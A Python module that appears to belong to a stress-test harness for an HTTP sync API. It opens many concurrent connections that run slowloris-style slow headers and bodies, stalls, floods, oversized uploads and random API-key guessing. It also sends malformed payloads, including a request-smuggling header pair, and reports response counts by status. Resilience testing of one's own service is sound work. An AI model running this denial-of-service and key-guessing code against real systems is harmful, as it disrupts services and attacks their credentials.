"""The attackers of one process: connections that hold what they don't use, and requests without end.

Each connection does one thing for as long as the attack lasts, and begins again when the server closes it. Prints how
many connections were tried and how many requests were answered, by status.
"""

import asyncio
import collections
import json
import random
import sys
import time

from .wire import connect, event_id, reply, request

# How many connections of each address do what.
SHARES = {
    "idle": 40,
    "slow_head": 30,
    "slow_body": 30,
    "stream": 40,
    "invent": 20,
    "large": 10,
    "stall": 10,
    "garbage": 10,
    "guess": 10,
}
GARBAGE = [
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    b"GET / HTTP/1.1\r\n\r\n",
    b"POST /v1/sync HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    b"POST /v1/sync HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n",
    b"GET /" + b"x" * 20_000 + b" HTTP/1.1\r\n",
    b"\r\n" * 1_000,
]


class Attack:
    """What the attackers of one process share."""

    def __init__(self, plan):
        self.plan, self.target, self.key = plan, plan["target"], plan["key"]
        self.end = time.time() + plan["seconds"]
        self.connections, self.statuses = 0, collections.Counter()

    def is_on(self):
        return time.time() < self.end

    async def run(self):
        jobs = []
        for source in self.plan["addresses"]:
            for kind, count in self.plan["shares"].items():
                jobs += [self.keep(getattr(self, kind), source) for _ in range(count)]
        await asyncio.gather(*jobs)

    async def keep(self, work, source):
        """Does the work on one connection after the other."""
        await asyncio.sleep(random.random())
        while self.is_on():
            writer = None
            try:
                reader, writer = await asyncio.wait_for(connect(self.target, source), 10)
                self.connections += 1
                await asyncio.wait_for(work(reader, writer), max(0.1, self.end - time.time()))
            except (OSError, EOFError, TimeoutError, asyncio.TimeoutError, ValueError, asyncio.LimitOverrunError):
                pass
            finally:
                if writer:
                    writer.transport.abort()
            await asyncio.sleep(0.5)

    async def ask(self, reader, writer, data):
        writer.write(data)
        await writer.drain()
        status, headers, _ = await reply(reader)
        self.statuses[status] += 1
        if headers.get("connection") == "close":
            raise EOFError
        return status

    # What a connection does.

    async def idle(self, reader, _):
        await reader.read()

    async def slow_head(self, reader, writer):
        writer.write(b"POST /v1/sync HTTP/1.1\r\nHost: a\r\nX-A: ")
        await self.drip(reader, writer, 0.5)

    async def slow_body(self, reader, writer):
        head = (
            f"POST /v1/sync HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer {self.key}\r\nContent-Length: 1000000\r\n\r\n"
        )
        writer.write(head.encode() + b'{"user_id":"' + b"x" * 50_000)
        await self.drip(reader, writer, 1)

    async def drip(self, reader, writer, pause):
        while not reader.at_eof():
            writer.write(b"x")
            await writer.drain()
            await asyncio.sleep(pause)

    async def stream(self, reader, writer):
        user = "streamed" if random.random() < 0.5 else f"invented-{random.random()}"
        writer.write(request("GET", f"/v1/live?user_id={user}", self.key))
        while await reader.read(4_096):
            pass

    async def invent(self, reader, writer):
        while self.is_on():
            user = f"invented-{random.random()}"
            attributes = {f"a{index}": "x" * 1_000 for index in range(20)}
            event = {"id": event_id(), "type": "attributes", "attributes": attributes, "at": time.time()}
            body = {"user_id": user, "device_id": user, "events": [event]}
            status = await self.ask(reader, writer, request("POST", "/v1/sync", self.key, json.dumps(body).encode()))
            # One that is told to wait asks again all the same, only not as fast as it can: others would do that for it.
            await asyncio.sleep(0.05 if status == 429 else 0)

    async def large(self, reader, writer):
        while self.is_on():
            body = b'{"user_id":"' + b"x" * 1_000_000 + b'"}'
            await self.ask(reader, writer, request("POST", "/v1/events", self.key, body))
            await asyncio.sleep(0.2)

    async def stall(self, reader, writer):
        writer.transport.pause_reading()
        writer.write(request("GET", "/openapi.json") * 60)
        await asyncio.sleep(60)

    async def garbage(self, reader, writer):
        writer.write(random.choice(GARBAGE))
        await reader.read()

    async def guess(self, reader, writer):
        while self.is_on():
            key = f"pk_{random.random()}"
            await self.ask(reader, writer, request("POST", "/v1/sync", key, b'{"user_id":"honest-1","device_id":"d"}'))
            await asyncio.sleep(0.1)


async def main(plan):
    attack = Attack(plan)
    await attack.run()
    json.dump({"connections": attack.connections, "statuses": attack.statuses}, sys.stdout)


if __name__ == "__main__":
    asyncio.run(main(json.loads(sys.argv[1])))
